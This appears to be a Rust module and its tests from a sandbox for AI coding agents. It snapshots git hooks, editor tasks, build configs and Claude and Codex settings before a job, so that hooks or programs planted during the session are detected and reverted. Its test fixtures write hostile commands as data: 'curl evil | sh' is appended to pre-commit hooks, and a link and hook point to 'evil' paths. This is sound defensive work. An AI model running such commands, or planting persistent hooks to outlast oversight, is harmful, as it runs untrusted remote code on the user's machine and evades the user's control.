//! What runs later, compared by content: a snapshot of every location
//! `policy::autorun` resolves, taken right before the job starts and
//! compared after every process of the job is dead (issue P9).
//!
//! Why content and not change times: a file written in an earlier session
//! and renamed into place (`x/tasks.json`, then `mv x .vscode`) keeps its
//! old `ctime`, and so does everything inside a directory renamed into
//! place; what the next tool runs is what is there, however it got there.
//! So each location is kept as what it *is* at the start — a regular
//! file's SHA-256 (an agent's settings: what they make the agent run), a
//! link's target, a directory's entries — and compared with what it is at
//! the end. The locations are resolved again at the end and the two sets
//! joined, so a path that a changed config newly names is compared too
//! (against what was there at the start: nothing, or the user's file).
//!
//! Safe to read: the start runs before the job, the end after it; links
//! are never followed in the last component, never descended into as
//! directories, and only regular files are opened (a FIFO cannot block
//! the check). Bounded: [`MAX_ENTRIES`] entries per tree, at most
//! `autorun::MAX_LOCATIONS` locations; what is left unchecked is a finding.
//!
//! Agent settings outside the project that a preset lets the agent write
//! (`~/.claude/settings.json`, `~/.codex/config.toml`, …) are the agent's
//! state as much as its configuration, so writes to them cannot be refused
//! without breaking the agent. Instead, when the session changed what they
//! make the agent run, the file is put back as it was at the start and the
//! session's version is set aside next to it for the user to review
//! ([`restore`]): nothing the job added runs at the next start, and nothing
//! is lost.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsString;
use std::path::{Path, PathBuf};

use super::persist::kind_of;
use crate::policy::autorun::{self, Compare, Files, Kind, Location, Roots};

/// Entries compared per tree location (a hooks directory, `.vscode/`).
pub const MAX_ENTRIES: usize = 4096;
/// Bytes of the start's files kept in memory to put them back: the
/// configuration and hooks this watches are kilobytes; a file past the
/// budget is still compared, and when changed it is moved out of the way
/// and named as not put back.
pub const MAX_KEPT: usize = 32 << 20;
/// How deep a tree location is followed.
const MAX_DEPTH: usize = 8;

/// What a path is, as far as running it later goes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Seen {
    Absent,
    Dir,
    /// A regular file: the SHA-256 of its content, or for an agent's
    /// settings of [`autorun::runs`]; `bytes` kept where it may be put
    /// back ([`restore`]).
    File {
        digest: String,
        bytes: Option<Vec<u8>>,
        /// Its permission bits, to put it back with them (a hook's `x`).
        mode: u32,
    },
    Link(OsString),
    /// A device, FIFO or socket.
    Other,
    /// Could not be read: why.
    Unreadable(String),
}

impl Seen {
    /// For an agent's settings: nothing there, or settings that name no
    /// program and no auto-run key (what they run, [`autorun::runs`], is
    /// empty). An agent writing its first settings at its first start
    /// (Codex's `config.toml` with `[tui]` only) has planted nothing.
    fn runs_nothing(&self) -> bool {
        match self {
            Seen::Absent => true,
            Seen::File { digest, .. } => digest.is_empty(),
            _ => false,
        }
    }

    /// Equal for running later: the digests (the kept bytes are a copy).
    fn same(&self, other: &Seen) -> bool {
        match (self, other) {
            (Seen::File { digest: a, .. }, Seen::File { digest: b, .. }) => a == b,
            (a, b) => a == b,
        }
    }
}

/// One location that changed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Change {
    pub path: PathBuf,
    /// Why the path is watched (`autorun::Location::why`).
    pub why: String,
    pub before: Seen,
    pub after: Seen,
    pub compare: Compare,
    /// For an agent's settings: the keys whose values changed.
    pub keys: Vec<String>,
    /// For a directory created during the session: the entries created in
    /// it, reported with it (one finding for one planted tree).
    pub inside: usize,
    /// The directory it is put back beneath, opened without following a
    /// link below it: the project, or for an agent's file or directory in
    /// the home the directory that holds that location.
    pub root: PathBuf,
}

impl Change {
    /// "created", "changed", … for the finding.
    pub fn describe(&self) -> String {
        let what = match (&self.before, &self.after) {
            (_, Seen::Unreadable(why)) => format!("cannot be checked: {why}"),
            (_, Seen::Link(to)) => format!(
                "now a symbolic link to {}",
                crate::text::escape(&to.to_string_lossy())
            ),
            (Seen::Absent, _) if self.inside > 0 => format!(
                "created during the session, with {} entries in it",
                self.inside
            ),
            (Seen::Absent, _) if !self.keys.is_empty() => {
                format!("created during the session ({})", self.keys.join(", "))
            }
            (Seen::Absent, _) => "created during the session".into(),
            _ if !self.keys.is_empty() => format!(
                "what it runs changed during the session ({})",
                self.keys.join(", ")
            ),
            _ => "changed during the session".into(),
        };
        format!("{what}; runs later as {}", self.why)
    }
}

/// The start's view.
#[derive(Debug, Clone)]
pub struct Snapshot {
    roots: Roots,
    locations: Vec<Location>,
    seen: BTreeMap<PathBuf, Seen>,
    /// The start could not hold every location: the finding for it.
    unchecked: Vec<(PathBuf, String)>,
    /// Where the links of watched places led at the start, inside the
    /// project: compared like the links (a hook that is a link into the
    /// tree runs the file it names). The end follows only these: a link
    /// the job pointed elsewhere is itself the change, put back.
    followed: BTreeSet<PathBuf>,
}

impl Snapshot {
    /// Right before the job starts.
    pub fn take(roots: Roots) -> Snapshot {
        Snapshot::take_in(roots, &RealFiles)
    }

    fn take_in(roots: Roots, files: &dyn Files) -> Snapshot {
        let resolved = autorun::resolve(&roots, files);
        let mut snap = Snapshot {
            roots,
            locations: resolved.locations,
            seen: BTreeMap::new(),
            unchecked: Vec::new(),
            followed: BTreeSet::new(),
        };
        if resolved.truncated {
            snap.unchecked.push((
                snap.roots.project.clone(),
                format!(
                    "more than {} places where something runs later were named: the rest is not checked",
                    autorun::MAX_LOCATIONS
                ),
            ));
        }
        let mut seen = BTreeMap::new();
        let mut settings = resolved.settings;
        let files_apart = snap.files_apart();
        // What the start keeps to put back, across every location.
        let mut ex = Expanding {
            files,
            apart: &files_apart,
            project: &snap.roots.project,
            keep: Some(MAX_KEPT),
            follow_only: None,
            followed: BTreeSet::new(),
        };
        for l in &snap.locations {
            // Settings resolving read and parsed: not read again.
            if let (false, None, Compare::AgentJson | Compare::AgentToml, Some(read)) =
                (l.tree, l.ending, l.compare, settings.remove(&l.path))
            {
                let bytes = match &mut ex.keep {
                    Some(left) if read.bytes.len() <= *left => {
                        *left -= read.bytes.len();
                        Some(read.bytes)
                    }
                    _ => None,
                };
                seen.insert(
                    l.path.clone(),
                    Seen::File {
                        digest: autorun::without_own_trust(&read.runs, &snap.roots.project),
                        bytes,
                        mode: files.mode(&l.path).unwrap_or(0o600),
                    },
                );
            } else if let Err(at) = ex.expand(l, &mut seen, 0) {
                snap.unchecked.push(at);
            }
        }
        let followed = ex.followed;
        snap.seen = seen;
        snap.followed = followed;
        snap
    }

    /// Files watched in a format of their own inside a watched tree
    /// (`.vscode/settings.json` in `.vscode/`): the tree leaves them to
    /// their own location.
    fn files_apart(&self) -> BTreeSet<PathBuf> {
        self.locations
            .iter()
            .filter(|l| !l.tree && l.ending.is_none())
            .map(|l| l.path.clone())
            .collect()
    }

    /// After every process of the job is dead: what changed, and what
    /// could not be checked.
    pub fn compare(&self) -> (Vec<Change>, Vec<(PathBuf, String)>) {
        self.compare_in(&RealFiles)
    }

    fn compare_in(&self, files: &dyn Files) -> (Vec<Change>, Vec<(PathBuf, String)>) {
        let mut unchecked = self.unchecked.clone();
        let mut changes = Vec::new();
        let files_apart = self.files_apart();
        let mut ex = Expanding {
            files,
            apart: &files_apart,
            project: &self.roots.project,
            keep: None,
            follow_only: Some(&self.followed),
            followed: BTreeSet::new(),
        };
        for l in &self.locations {
            let mut after = BTreeMap::new();
            if let Err(at) = ex.expand(l, &mut after, 0) {
                unchecked.push(at);
            }
            // In an agent's program tree (an installed package: dozens of
            // files), the directories created during the session, by their
            // index in `changes`: what was created in them is reported
            // with them (paths come sorted, a directory before its
            // entries). Elsewhere each entry is named: `.vscode/tasks.json`
            // says more than `.vscode`.
            let fold = self.roots.agent_trees.contains(&l.path);
            let mut created_dirs: Vec<(PathBuf, usize)> = Vec::new();
            // A file read in its tool's format: a created one that runs
            // nothing (an `.npmrc` with a registry line) planted nothing.
            let settings = l.compare != Compare::Bytes && !l.tree;
            // The start's entries under this location that are gone now
            // are removals: nothing runs from a removed file.
            for (path, seen) in after {
                let before = self.seen.get(&path).cloned().unwrap_or(Seen::Absent);
                if before.same(&seen)
                    || (settings && before.runs_nothing() && seen.runs_nothing())
                    || matches!(seen, Seen::Absent)
                    || matches!((&before, &seen), (Seen::Dir, Seen::Dir))
                    || changes.iter().any(|c: &Change| c.path == path)
                {
                    continue;
                }
                if before == Seen::Absent
                    && let Some((_, i)) = created_dirs.iter().find(|(dir, _)| path.starts_with(dir))
                {
                    if let Some(c) = changes.get_mut(*i) {
                        c.inside += 1;
                    }
                    continue;
                }
                // In a virtualenv's site-packages, what an installed
                // package's RECORD lists is its install.
                if let (Some(sp), Some(name)) = (&l.installed, path.file_name())
                    && matches!(seen, Seen::File { .. })
                    && autorun::installed_by_a_package(sp, &name.to_string_lossy(), files)
                {
                    continue;
                }
                if fold && before == Seen::Absent && seen == Seen::Dir {
                    created_dirs.push((path.clone(), changes.len()));
                }
                let compare = if l.tree { Compare::Bytes } else { l.compare };
                let keys = match (&before, &seen) {
                    (Seen::File { digest: b, .. }, Seen::File { digest: a, .. }) => {
                        autorun::keys_changed(compare, b, a)
                    }
                    // A new file in its tool's format: the keys it sets.
                    (Seen::Absent, Seen::File { digest: a, .. }) => {
                        autorun::keys_changed(compare, "", a)
                    }
                    _ => Vec::new(),
                };
                let root = if path.starts_with(&self.roots.project) {
                    self.roots.project.clone()
                } else {
                    l.path.parent().unwrap_or(&l.path).to_path_buf()
                };
                changes.push(Change {
                    path,
                    why: l.why.clone(),
                    before,
                    after: seen,
                    compare,
                    keys,
                    inside: 0,
                    root,
                });
            }
        }
        changes.sort_by(|a, b| a.path.cmp(&b.path));
        (changes, unchecked)
    }

    /// The project the snapshot watches.
    pub fn project(&self) -> &Path {
        &self.roots.project
    }

    /// Whether `path` is compared here (a location, or inside a watched
    /// tree or directory of endings): its change is this snapshot's to
    /// judge, by content and in its tool's format.
    pub fn watches(&self, path: &Path) -> bool {
        self.locations.iter().any(|l| {
            l.path == path
                || (l.tree && path.starts_with(&l.path))
                || l.ending.is_some_and(|e| {
                    path.parent() == Some(l.path.as_path())
                        && path
                            .file_name()
                            .is_some_and(|n| n.to_string_lossy().ends_with(e))
                })
        })
    }
}

/// How many links in a row are followed from a watched place.
const MAX_HOPS: usize = 8;

/// Reading watched places: the start's (keeping bytes to put back) or
/// the end's.
struct Expanding<'a> {
    files: &'a dyn Files,
    /// Files a tree leaves to their own locations.
    apart: &'a BTreeSet<PathBuf>,
    project: &'a Path,
    /// Bytes of files still to be kept (the start); `None` at the end.
    keep: Option<usize>,
    /// At the end: only the link targets the start followed.
    follow_only: Option<&'a BTreeSet<PathBuf>>,
    /// Link targets inside the project followed.
    followed: BTreeSet<PathBuf>,
}

impl Expanding<'_> {
    /// `l` and, for a tree, everything in it, into `out`; `Err`: where
    /// the bound was reached. `hops`: links followed to get here.
    fn expand(
        &mut self,
        l: &Location,
        out: &mut BTreeMap<PathBuf, Seen>,
        hops: usize,
    ) -> Result<(), (PathBuf, String)> {
        if let Some(ending) = l.ending {
            // One level: the entries whose names end so, found again at
            // the end (a workspace file the session adds is compared too).
            let Some(entries) = self.files.list(&l.path, MAX_ENTRIES + 1) else {
                return Ok(());
            };
            if entries.len() > MAX_ENTRIES {
                return Err((
                    l.path.clone(),
                    format!("more than {MAX_ENTRIES} entries: not checked whole"),
                ));
            }
            for (name, _) in entries {
                if name.to_string_lossy().ends_with(ending) {
                    let child = l.path.join(name);
                    let seen = self.seen_at(&child, l.compare);
                    out.insert(child, seen);
                }
            }
            return Ok(());
        }
        let compare = if l.tree { Compare::Bytes } else { l.compare };
        let seen = self.seen_at(&l.path, compare);
        let is_dir = seen == Seen::Dir;
        self.follow(&l.path, &seen, l, out, hops)?;
        out.insert(l.path.clone(), seen);
        if !l.tree || !is_dir {
            return Ok(());
        }
        let mut count = 0usize;
        let mut stack = vec![(l.path.clone(), 0usize)];
        while let Some((dir, depth)) = stack.pop() {
            let Some(entries) = self.files.list(&dir, MAX_ENTRIES + 1 - count) else {
                out.insert(dir, Seen::Unreadable("cannot be listed".into()));
                continue;
            };
            count += entries.len();
            if count > MAX_ENTRIES {
                return Err((
                    l.path.clone(),
                    format!("more than {MAX_ENTRIES} entries: not checked whole"),
                ));
            }
            for (name, kind) in entries {
                let child = dir.join(name);
                if self.apart.contains(&child) {
                    continue;
                }
                if kind == Kind::Dir {
                    out.insert(child.clone(), Seen::Dir);
                    if depth + 1 >= MAX_DEPTH {
                        return Err((child, "too deep: not checked whole".into()));
                    }
                    stack.push((child, depth + 1));
                } else {
                    let seen = self.seen_at(&child, Compare::Bytes);
                    self.follow(&child, &seen, l, out, hops)?;
                    out.insert(child, seen);
                }
            }
        }
        Ok(())
    }

    /// A link at `path` that leads inside the project: what it leads to
    /// is watched as the link is (a file by its bytes, a directory as a
    /// tree when `l` is one), lexically resolved as the kernel would from
    /// the link's directory; at the end only where the start went.
    fn follow(
        &mut self,
        path: &Path,
        seen: &Seen,
        l: &Location,
        out: &mut BTreeMap<PathBuf, Seen>,
        hops: usize,
    ) -> Result<(), (PathBuf, String)> {
        let Seen::Link(to) = seen else {
            return Ok(());
        };
        let Some(dir) = path.parent() else {
            return Ok(());
        };
        let target = autorun::normalize(&dir.join(to));
        if !target.starts_with(self.project)
            || target == self.project
            || out.contains_key(&target)
            || self.follow_only.is_some_and(|only| !only.contains(&target))
        {
            return Ok(());
        }
        if hops >= MAX_HOPS {
            return Err((
                path.to_path_buf(),
                "too many links in a row: not checked whole".into(),
            ));
        }
        self.followed.insert(target.clone());
        let linked = Location {
            path: target,
            tree: l.tree,
            ending: None,
            installed: None,
            compare: Compare::Bytes,
            why: l.why.clone(),
        };
        self.expand(&linked, out, hops + 1)
    }

    /// What `path` is; a regular file's bytes kept while the budget
    /// allows.
    fn seen_at(&mut self, path: &Path, compare: Compare) -> Seen {
        let files = self.files;
        match files.kind(path) {
            None => Seen::Absent,
            Some(Kind::Dir) => Seen::Dir,
            Some(Kind::Other) => Seen::Other,
            Some(Kind::Symlink) => match files.read_link(path) {
                Some(to) => Seen::Link(to),
                None => Seen::Unreadable("a link whose target cannot be read".into()),
            },
            Some(Kind::File) => match files.read(path, autorun::MAX_CONFIG) {
                None => Seen::Unreadable(format!(
                    "not readable, or larger than {} MiB",
                    autorun::MAX_CONFIG >> 20
                )),
                Some(bytes) => Seen::File {
                    digest: match compare {
                        Compare::AgentToml => autorun::without_own_trust(
                            &autorun::runs(&bytes, compare),
                            self.project,
                        ),
                        _ => autorun::runs(&bytes, compare),
                    },
                    mode: files.mode(path).unwrap_or(0o644),
                    bytes: match &mut self.keep {
                        Some(left) if bytes.len() <= *left => {
                            *left -= bytes.len();
                            Some(bytes)
                        }
                        _ => None,
                    },
                },
            },
        }
    }
}

/// The real filesystem.
pub struct RealFiles;

impl Files for RealFiles {
    fn kind(&self, path: &Path) -> Option<Kind> {
        let ft = std::fs::symlink_metadata(path).ok()?.file_type();
        Some(kind_of(ft))
    }

    fn read(&self, path: &Path, max: u64) -> Option<Vec<u8>> {
        use std::io::Read;
        // Never through a link in the last component, nor a FIFO.
        let f = crate::sys::safe_fs::open_regular(path).ok()?;
        let mut bytes = Vec::new();
        f.take(max + 1).read_to_end(&mut bytes).ok()?;
        (bytes.len() as u64 <= max).then_some(bytes)
    }

    fn read_link(&self, path: &Path) -> Option<OsString> {
        std::fs::read_link(path).ok().map(PathBuf::into_os_string)
    }

    fn mode(&self, path: &Path) -> Option<u32> {
        Some(crate::sys::os::mode(&std::fs::symlink_metadata(path).ok()?) & 0o7777)
    }

    fn list(&self, dir: &Path, max: usize) -> Option<Vec<(OsString, Kind)>> {
        let mut out = Vec::new();
        for entry in std::fs::read_dir(dir).ok()?.take(max) {
            let entry = entry.ok()?;
            out.push((
                entry.file_name(),
                entry.file_type().map_or(Kind::Other, kind_of),
            ));
        }
        Some(out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::autorun::testing::Fake;

    fn roots() -> Roots {
        Roots {
            project: PathBuf::from("/p"),
            home: Some(PathBuf::from("/h")),
            agent_files: vec![(
                PathBuf::from("/h/.claude/settings.json"),
                Compare::AgentJson,
            )],
            agent_trees: Vec::new(),
            nested_git_dirs: Vec::new(),
        }
    }

    fn changed(f: &Fake, before: &Snapshot) -> Vec<String> {
        before
            .compare_in(f)
            .0
            .iter()
            .map(|c| c.path.display().to_string())
            .collect()
    }

    #[test]
    fn a_directory_renamed_into_place_is_a_change_whatever_its_times() {
        let f = Fake::default();
        f.file("/p/x/tasks.json", "{\"tasks\":[]}");
        let snap = Snapshot::take_in(roots(), &f);
        f.rename("/p/x", "/p/.vscode");
        assert_eq!(changed(&f, &snap), ["/p/.vscode", "/p/.vscode/tasks.json"]);
    }

    #[test]
    fn a_hook_rewritten_in_the_configured_hooks_path_is_a_change() {
        let f = Fake::default();
        f.file("/p/.git/config", "[core]\n\thooksPath = .githooks\n")
            .file("/p/.githooks/pre-commit", "#!/bin/sh\nmake lint\n");
        let snap = Snapshot::take_in(roots(), &f);
        f.file("/p/.githooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
        let (changes, unchecked) = snap.compare_in(&f);
        assert!(unchecked.is_empty());
        assert_eq!(changes.len(), 1, "{changes:?}");
        assert!(
            changes[0].why.contains("core.hookspath"),
            "{:?}",
            changes[0]
        );
    }

    #[test]
    fn pointing_git_at_a_new_program_is_a_change_of_the_config_that_names_it() {
        let f = Fake::default();
        f.file("/p/.git/config", "[core]\n\tbare = false\n")
            .file("/p/tools/mon", "the user's");
        let snap = Snapshot::take_in(roots(), &f);
        f.file("/p/.git/config", "[core]\n\tfsmonitor = tools/mon\n");
        f.file("/p/tools/mon", "the job's");
        assert_eq!(changed(&f, &snap), ["/p/.git/config"]);
    }

    #[test]
    fn a_program_the_config_named_at_the_start_rewritten_is_a_change() {
        let f = Fake::default();
        f.file(
            "/p/.git/config",
            "[filter \"lfs\"]\n\tprocess = ./bin/filter --x\n",
        )
        .file("/p/bin/filter", "the user's");
        let snap = Snapshot::take_in(roots(), &f);
        f.file("/p/bin/filter", "the job's");
        assert_eq!(changed(&f, &snap), ["/p/bin/filter"]);
    }

    /// What `put_back` needs: the start's version kept (or nothing there),
    /// and the agent's directory to open beneath.
    fn can_be_put_back(c: &Change) -> bool {
        matches!(c.before, Seen::File { bytes: Some(_), .. } | Seen::Absent)
            && c.path.parent() == Some(c.root.as_path())
    }

    #[test]
    fn an_agents_own_state_written_is_no_change_and_a_hook_is_and_is_restorable() {
        let f = Fake::default();
        f.file("/h/.claude/settings.json", r#"{"model":"a"}"#);
        let snap = Snapshot::take_in(roots(), &f);
        f.file("/h/.claude/settings.json", r#"{"model":"b"}"#);
        assert!(changed(&f, &snap).is_empty());
        f.file(
            "/h/.claude/settings.json",
            r#"{"model":"b","hooks":{"SessionStart":[]}}"#,
        );
        let (changes, _) = snap.compare_in(&f);
        assert_eq!(changes.len(), 1);
        assert_eq!(changes[0].keys, ["hooks"]);
        assert!(can_be_put_back(&changes[0]), "{:?}", changes[0]);
        assert!(changes[0].describe().contains("hooks"));
    }

    /// An agent's first start writes its settings where there were none
    /// (Codex: `[tui] screen_reader_detection_done = true`): nothing that
    /// runs, no change. Settings created with a hook are one.
    #[test]
    fn an_agents_first_settings_without_a_program_are_no_change() {
        let f = Fake::default();
        let snap = Snapshot::take_in(roots(), &f);
        f.file("/h/.claude/settings.json", r#"{"model":"a"}"#);
        assert!(changed(&f, &snap).is_empty());
        f.file(
            "/h/.claude/settings.json",
            r#"{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"/h/x"}]}]}}"#,
        );
        let (changes, _) = snap.compare_in(&f);
        assert_eq!(changes.len(), 1, "{changes:?}");
        assert!(can_be_put_back(&changes[0]), "{:?}", changes[0]);
        // Settings that do not parse are a change (their bytes).
        f.file("/h/.claude/settings.json", "{not json");
        assert_eq!(changed(&f, &snap), ["/h/.claude/settings.json"]);
    }

    /// The start reads an agent's settings once (a `~/.claude.json` runs
    /// to megabytes of history): what resolving parsed is what is kept.
    #[test]
    fn an_agents_settings_are_read_once_at_the_start() {
        struct Counting<'a>(&'a Fake, std::cell::RefCell<Vec<PathBuf>>);
        impl Files for Counting<'_> {
            fn kind(&self, path: &Path) -> Option<Kind> {
                self.0.kind(path)
            }
            fn read(&self, path: &Path, max: u64) -> Option<Vec<u8>> {
                self.1.borrow_mut().push(path.to_path_buf());
                self.0.read(path, max)
            }
            fn list(&self, dir: &Path, max: usize) -> Option<Vec<(OsString, Kind)>> {
                self.0.list(dir, max)
            }
            fn read_link(&self, path: &Path) -> Option<OsString> {
                self.0.read_link(path)
            }
        }
        let f = Fake::default();
        f.file(
            "/h/.claude/settings.json",
            r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"/h/bin/stop"}]}]}}"#,
        )
        .file("/p/.mcp.json", r#"{"mcpServers":{}}"#);
        let counting = Counting(&f, Default::default());
        let snap = Snapshot::take_in(roots(), &counting);
        let reads = counting.1.borrow();
        for settings in ["/h/.claude/settings.json", "/p/.mcp.json"] {
            let n = reads
                .iter()
                .filter(|p| p.as_path() == Path::new(settings))
                .count();
            assert_eq!(n, 1, "{settings} read {n} times: {reads:?}");
        }
        // And kept as before: a new hook is a change, restorable.
        f.file(
            "/h/.claude/settings.json",
            r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"/h/bin/evil"}]}]}}"#,
        );
        let (changes, _) = snap.compare_in(&f);
        assert_eq!(changes.len(), 1, "{changes:?}");
        assert!(can_be_put_back(&changes[0]), "{:?}", changes[0]);
    }

    /// A watched file replaced by a link (to a script outside the
    /// project, or the user's own file) is a change, named as a link and
    /// never followed.
    #[test]
    fn a_watched_file_replaced_by_a_link_is_a_change() {
        let f = Fake::default();
        f.file("/p/.envrc", "use nix");
        let snap = Snapshot::take_in(roots(), &f);
        f.link("/p/.envrc", "/tmp/evil");
        let (changes, _) = snap.compare_in(&f);
        assert_eq!(changes.len(), 1, "{changes:?}");
        assert_eq!(changes[0].after, Seen::Link("/tmp/evil".into()));
        assert!(changes[0].describe().contains("symbolic link"));
    }

    #[test]
    fn removals_run_nothing_and_are_no_change() {
        let f = Fake::default();
        f.file("/p/.envrc", "use nix");
        let snap = Snapshot::take_in(roots(), &f);
        f.0.borrow_mut().remove(Path::new("/p/.envrc"));
        assert!(changed(&f, &snap).is_empty());
    }

    /// Codex's first start copies its daemon (dozens of files) into
    /// `~/.codex/packages`: one finding for the tree it planted, naming
    /// how many entries it holds, not one per file.
    #[test]
    fn a_directory_created_with_entries_in_it_is_one_change() {
        let f = Fake::default();
        let mut r = roots();
        r.agent_trees = vec![PathBuf::from("/h/.codex/packages")];
        let snap = Snapshot::take_in(r, &f);
        f.file("/h/.codex/packages/daemon/releases/1/bin/codex", "ELF");
        f.file("/h/.codex/packages/daemon/current", "1");
        let (changes, _) = snap.compare_in(&f);
        assert_eq!(changes.len(), 1, "{changes:?}");
        assert_eq!(changes[0].path, Path::new("/h/.codex/packages"));
        assert_eq!(changes[0].inside, 6);
        assert!(
            changes[0]
                .describe()
                .starts_with("created during the session, with 6 entries in it"),
            "{}",
            changes[0].describe()
        );
    }

    #[test]
    fn a_tree_beyond_its_bound_is_unchecked_not_passed() {
        let f = Fake::default();
        for i in 0..=MAX_ENTRIES {
            f.file(&format!("/p/.vscode/{i}"), "x");
        }
        let snap = Snapshot::take_in(roots(), &f);
        let (_, unchecked) = snap.compare_in(&f);
        assert!(
            unchecked.iter().any(|(p, _)| p == Path::new("/p/.vscode")),
            "{unchecked:?}"
        );
    }

    #[test]
    fn a_hook_linked_into_the_tree_is_compared_by_the_script_it_runs() {
        let f = Fake::default();
        f.dir("/p/.git/hooks")
            .link("/p/.git/hooks/pre-commit", "../../scripts/pre-commit")
            .file("/p/scripts/pre-commit", "#!/bin/sh\nmake lint\n");
        let snap = Snapshot::take_in(roots(), &f);
        f.file(
            "/p/scripts/pre-commit",
            "#!/bin/sh\nmake lint\ncurl evil | sh\n",
        );
        let (changes, _) = snap.compare_in(&f);
        assert_eq!(changes.len(), 1, "{changes:?}");
        assert_eq!(changes[0].path, Path::new("/p/scripts/pre-commit"));
        assert!(
            matches!(&changes[0].before, Seen::File { bytes: Some(b), .. } if b.as_slice() == b"#!/bin/sh\nmake lint\n"),
            "the start's script is kept to put back: {:?}",
            changes[0].before
        );
    }

    #[test]
    fn a_link_pointed_elsewhere_is_the_change_and_its_new_target_is_not_taken() {
        let f = Fake::default();
        f.dir("/p/.git/hooks")
            .link("/p/.git/hooks/pre-commit", "../../scripts/pre-commit")
            .file("/p/scripts/pre-commit", "lint")
            .file("/p/src/main.rs", "fn main() {}");
        let snap = Snapshot::take_in(roots(), &f);
        f.link("/p/.git/hooks/pre-commit", "../../src/main.rs");
        let (changes, _) = snap.compare_in(&f);
        let paths: Vec<_> = changes.iter().map(|c| c.path.clone()).collect();
        assert_eq!(paths, [PathBuf::from("/p/.git/hooks/pre-commit")]);
    }

    #[test]
    fn a_format_file_edited_harmlessly_is_no_change_and_a_wrapper_is() {
        let f = Fake::default();
        f.file("/p/.cargo/config.toml", "[profile.dev]\nopt-level = 0\n")
            .file("/p/.vscode/settings.json", "{\"editor.fontSize\": 12}");
        let snap = Snapshot::take_in(roots(), &f);
        f.file("/p/.cargo/config.toml", "[profile.dev]\nopt-level = 2\n")
            .file("/p/.vscode/settings.json", "{\"editor.fontSize\": 14}")
            .file(
                "/p/app.code-workspace",
                "{\"folders\": [{\"path\": \".\"}]}",
            );
        let (changes, _) = snap.compare_in(&f);
        assert!(changes.is_empty(), "{changes:?}");
        f.file(
            "/p/.cargo/config.toml",
            "[profile.dev]\nopt-level = 2\n[build]\nrustc-wrapper = \"./w\"\n",
        )
        .file("/p/b.code-workspace", "{\"tasks\": {}}");
        let (changes, _) = snap.compare_in(&f);
        let paths: Vec<_> = changes.iter().map(|c| c.path.clone()).collect();
        assert_eq!(
            paths,
            [
                PathBuf::from("/p/.cargo/config.toml"),
                PathBuf::from("/p/b.code-workspace")
            ]
        );
        assert_eq!(changes[0].keys, ["build.rustc-wrapper"]);
        assert_eq!(
            changes[1].keys,
            ["tasks"],
            "a new file names the keys it sets"
        );
        assert!(
            changes[1]
                .describe()
                .starts_with("created during the session (tasks)")
        );
    }
}
